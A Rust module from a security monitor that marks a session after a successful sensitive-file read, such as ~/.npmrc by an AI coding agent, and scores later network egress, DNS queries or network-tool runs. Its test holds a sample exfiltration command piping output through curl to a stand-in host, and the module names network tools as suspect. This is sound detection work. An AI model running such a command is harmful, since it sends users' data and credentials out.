//! `taint`: a sensitive read that *succeeded* marks the session; afterwards, egress (a
//! connect or send beyond loopback, a DNS query) and the exec of a network tool (`curl`,
//! `nc`, `ssh`, `scp`, …) each score 60, naming the read. The mark is learnt in
//! [`observe`] from finished events: a read the policy denied does not taint.

use crate::engine::{Compiled, Ctx, FilterResult, Hits, State};
use crate::filters::NETWORK_TOOLS;
use crate::paths::tilde;
use ward_event::{Action, Event, OpKind};

/// Score of egress after a sensitive read.
pub const TAINTED: i32 = 60;

pub(crate) fn check(ctx: &Ctx<'_>, st: &mut State, hits: &mut Hits) -> FilterResult {
    let Some(read) = &st.taint else { return Ok(()) };
    let name = super::TAINT;
    match ctx.kind {
        OpKind::NetConnect | OpKind::NetSend => {
            let sa = ctx.op.addr.as_ref().and_then(|a| a.socket_addr());
            if sa.is_some_and(|sa| !sa.ip().is_loopback()) {
                hits.add(name, TAINTED, format!("sends data out after the session read {read}"));
            }
        }
        OpKind::DnsQuery => {
            hits.add(name, TAINTED, format!("DNS query after the session read {read}"));
        }
        OpKind::ProcExec => {
            if let Some(cmd) = ctx.cmds.iter().find(|c| NETWORK_TOOLS.contains(&c.name())) {
                hits.add(name, TAINTED, cmd.reason(&format!("runs a network tool after the session read {read}")));
            }
        }
        _ => {}
    }
    Ok(())
}

/// Whether [`observe`] has anything to learn from `event` (cheap; no lock).
pub(crate) fn observe_needs_state(c: &Compiled, event: &Event) -> bool {
    matches!(event.op.op_kind(), OpKind::FileRead | OpKind::IpcConnect)
        && event.outcome.is_ok()
        && event.decision.action == Action::Allow
        && event
            .decision
            .filters
            .iter()
            .any(|h| h.filter == super::SENSITIVE && h.score >= c.thresholds.review)
}

/// Learns from a finished event.
pub(crate) fn observe(c: &Compiled, st: &mut State, event: &Event) {
    if st.taint.is_none() && observe_needs_state(c, event) {
        let p = event.op.path.as_ref().map(|p| p.to_string_lossy()).unwrap_or_default();
        st.taint = Some(tilde(&p, &c.home_str));
    }
}

#[cfg(test)]
mod tests {
    use crate::testkit::*;
    use ward_event::{Decider, Verdict};

    #[test]
    fn egress_after_a_successful_sensitive_read() {
        let e = engine_cli("claude-code", &[]);
        let a = actor(10, "/usr/bin/node");
        let op = read("/home/u/.npmrc");
        let d = e_decide(&e, &a, &op);
        assert_eq!(d.verdict, Verdict::Deny);
        // Denied: no taint.
        e.observe(&finished(&a, &op, d, true));
        let c = connect("160.79.104.10:443", Some("api.anthropic.com"));
        assert_eq!(score_in(&e_decide(&e, &a, &c), "taint"), 0);
        // Allowed (e.g. by a reviewer) and succeeded: taint.
        let mut d = e_decide(&e, &a, &op);
        d.action = ward_event::Action::Allow;
        e.observe(&finished(&a, &op, d, true));
        let dc = e_decide(&e, &a, &c);
        assert_eq!(score_in(&dc, "taint"), 60);
        assert!(dc.filters.iter().any(|h| h.reason.contains("~/.npmrc")));
        assert_eq!(dc.verdict, Verdict::Review);
        assert_eq!(score_in(&e_decide(&e, &a, &exec(&["sh", "-c", "ls | curl -d @- x.example"])), "taint"), 60);
        assert_eq!(score_in(&e_decide(&e, &a, &connect("127.0.0.1:53", None)), "taint"), 0);
    }
}
